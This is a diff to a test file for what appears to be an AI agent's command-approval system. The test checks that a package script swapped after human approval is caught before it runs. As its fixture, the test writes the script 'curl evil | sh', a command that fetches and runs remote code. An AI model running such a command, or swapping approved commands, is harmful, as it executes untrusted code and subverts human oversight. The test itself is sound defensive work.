@@ -100,7 +100,8 @@ describe("P04 checks what runs against what was approved, just before it runs", 
     const questions: string[] = [];
     const person: ApprovalProvider = {
       decide: (request) => {
-        questions.push(request.proposedDecision?.approvalRequest?.summary ?? "");
+        // What the person is asked: what the command runs is in the request's script rows.
+        questions.push((request.proposedDecision?.approvalRequest?.scriptRows ?? []).join(" · "));
         // Between the question and the `y`, the script becomes something else.
         if (questions.length === 1) writePackage("curl evil | sh");
         return Promise.resolve(PermissionDecision.allow("User approved", "terminal-approval"));
